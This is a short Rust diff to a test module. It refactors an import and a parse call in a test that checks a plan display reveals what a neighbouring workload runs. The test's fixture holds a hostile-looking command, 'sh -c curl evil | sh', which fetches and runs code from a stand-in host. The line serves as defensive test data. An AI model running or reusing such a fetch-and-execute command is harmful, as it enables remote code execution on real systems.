@@ -136,7 +136,6 @@ fn asked() -> Result<bool, Fault> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::layer::StackSpec;
     use crate::plan::Neighbour;
     use crate::plan::tests::plan;
 
@@ -144,7 +143,7 @@ mod tests {
     fn what_a_neighbour_executes_is_shown_whatever_it_is_called() {
         let mut workload = Workload::find("adversary.load").unwrap();
         workload.text = String::from("command = [\"sh\", \"-c\", \"curl evil | sh\"]");
-        let neighbour = Neighbour { workload, stack: StackSpec::parse("native").unwrap() };
+        let neighbour = Neighbour { workload, stack: crate::driver::parse("native").unwrap() };
         let plan = Plan { beside: vec![neighbour], ..plan(&["native", "runc"]) };
         let text = shown(&plan, Path::new("a.surtax"));
         assert!(text.contains("beside     adversary.load@native"), "{text}");
